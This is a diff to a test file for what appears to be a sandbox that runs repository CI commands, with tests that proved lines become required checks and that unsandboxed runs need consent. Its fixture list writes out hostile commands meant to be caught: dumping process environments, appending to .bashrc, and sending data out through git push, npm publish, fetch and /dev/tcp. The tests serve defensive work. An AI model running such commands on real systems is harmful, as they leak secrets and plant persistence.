@@ -2,12 +2,13 @@
 import {existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
 import {createServer as createHttpServer} from "node:http";
 import {type AddressInfo, createServer as createSocketServer} from "node:net";
+import {tmpdir} from "node:os";
 import {join} from "node:path";
 import {setTimeout as wait} from "node:timers/promises";
 import {expect, onTestFinished, test} from "vitest";
 import {planSchema} from "../../src/record/plan.ts";
-import {assay, gitIn, put} from "../rig/command-line.ts";
-import {hasBubblewrap, NEEDS_BUBBLEWRAP} from "../rig/levels.ts";
+import {assay, gitIn, put, repositoryOf} from "../rig/command-line.ts";
+import {hasBubblewrap, isAble, NEEDS_BUBBLEWRAP, without} from "../rig/levels.ts";
 import {someOf} from "../sweep.ts";
 
 const SECRET = `canary${process.pid}x7Qk2mVt9`;
@@ -21,11 +22,11 @@ const HARMFUL: readonly {readonly name: string; readonly hiddenIn: "sh" | "make"
     hiddenIn: "sh",
     body: 'echo x > "$OUTSIDE/file"; echo x > "$TOP/new"; echo x >> "$REAL/.bashrc"',
   },
-  {name: "publishes", hiddenIn: "npm", body: "npm publish --registry $SERVER"},
+  {name: "reads-variables", hiddenIn: "make", body: "env; cat /proc/*/environ; exit 1"},
   {name: "pushes", hiddenIn: "sh", body: "git -c protocol.allow=always push $SERVER/shop.git HEAD:refs/heads/main"},
   {name: "posts-from-node", hiddenIn: "npm", body: "node -e \"fetch(process.env.SERVER,{method:'POST',body:'x'})\""},
   {name: "posts-from-shell", hiddenIn: "sh", body: "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET / >&3; cat <&3"},
-  {name: "reads-variables", hiddenIn: "make", body: "env; cat /proc/*/environ; exit 1"},
+  {name: "publishes", hiddenIn: "npm", body: "npm publish --registry $SERVER"},
   {
     name: "asks-agent",
     hiddenIn: "sh",
@@ -140,6 +141,7 @@ test.runIf(hasBubblewrap)(`nothing that a line does leaves the sandbox${NEEDS_BU
   await wait(lines.length > 4 ? 3000 : 500);
   expect(requests).toEqual([]);
   expect(stdout + stderr).not.toContain(SECRET);
+  expect(proofs.find(({name}) => name === "reads-variables")?.excerpt).toContain("UV_OFFLINE=true");
   const kept = join(real, ".local/state/assay/proofs");
   expect(readFileSync(join(kept, ...readdirSync(kept)), "utf8")).not.toContain(SECRET);
   expect(readdirSync(join(machine, "outside"))).toEqual(["canary"]);
@@ -150,3 +152,65 @@ test.runIf(hasBubblewrap)(`nothing that a line does leaves the sandbox${NEEDS_BU
     if (!["stays", "forges-proofs", "writes-outside"].includes(name))
       expect([name, outcome.kind]).not.toEqual([name, "proved"]);
 });
+
+const CI = `on: pull_request
+jobs:
+  checks:
+    runs-on: ubuntu-latest
+    steps:
+      - run: node tools/inspect.mjs
+      - run: node tools/compare.mjs
+`;
+const FILES = {
+  ".github/workflows/ci.yml": CI,
+  "tools/inspect.mjs": "process.exit(process.env.OTHER ? 1 : 0);\n",
+  "tools/compare.mjs":
+    'import {appendFileSync} from "node:fs";\n["a.txt", "new.txt"].map((f) => appendFileSync(f, "x"));\n',
+  "a.txt": "a\n",
+  "package.json": JSON.stringify({scripts: {test: "node --test a.test.js"}}),
+  "a.test.js": 'require("node:test")("adds", () => undefined);\n',
+};
+
+test.runIf(hasBubblewrap)(`a proved line is a required check from the next run on${NEEDS_BUBBLEWRAP}`, () => {
+  const top = repositoryOf(FILES);
+  const state = mkdtempSync(join(tmpdir(), "assay-state-"));
+  onTestFinished(() => [top, state].forEach((folder) => void rmSync(folder, {recursive: true})));
+  const run = (...args: string[]) => assay(top, args, {XDG_STATE_HOME: state, OTHER: "set"});
+  const stageOf = (command: string) =>
+    planSchema.parse(JSON.parse(run("plan", "--json").stdout)).stages.find((stage) => stage.command === command);
+  expect(stageOf("node tools/inspect.mjs")?.optional ?? true).toBe(true);
+  const proved = run("plan", "--prove");
+  expect(proved.stdout).toMatch(/✅ \S+ +[\d.]+ s {2}passed \(node tools\/inspect\.mjs\)/);
+  expect(proved.stdout).toMatch(/passed, but changed or left files: a\.txt, new\.txt \(node tools\/compare\.mjs\)/);
+  expect(proved.stdout).toMatch(
+    /\n1 of 2 checks passed in one run on the last commit\. From the next run on, required: /,
+  );
+  expect(stageOf("node tools/inspect.mjs")).toMatchObject({optional: false});
+  expect(run("plan").stdout).toContain("one run on the base: passed, but changed or left files: a.txt, new.txt");
+  // The change under test decides nothing: the verification asks what the base's line does.
+  writeFileSync(join(top, "tools/inspect.mjs"), "process.exit(1);\n");
+  expect(run("verify", "--quiet").status).toBe(1);
+  gitIn(top)("commit", "-qam", "Change the line");
+  expect(stageOf("node tools/inspect.mjs")?.optional ?? true).toBe(true);
+});
+
+test.runIf(hasBubblewrap && isAble)(
+  "without a sandbox the lines are shown, and nothing runs unless the person says so",
+  () => {
+    const top = repositoryOf(FILES);
+    onTestFinished(() => rmSync(top, {recursive: true}));
+    const run = (...args: string[]) =>
+      assay(top, ["plan", "--prove", ...args], {XDG_STATE_HOME: join(top, ".git")}, without("bwrap"));
+    const refused = run();
+    expect(refused).toMatchObject({
+      status: 3,
+      stderr: expect.stringContaining("add --no-sandbox-ok if you trust all of them"),
+    });
+    expect(refused.stdout).toMatch(/without a sandbox:\n {2}node tools\/inspect\.mjs\n {2}node tools\/compare\.mjs\n/);
+    expect(run("--no-sandbox-ok").stdout).toMatch(/changed or left files: a\.txt, new\.txt/);
+    expect(run("nothing")).toMatchObject({
+      status: 3,
+      stderr: expect.stringContaining("unknown check nothing. Checks here: "),
+    });
+  },
+);
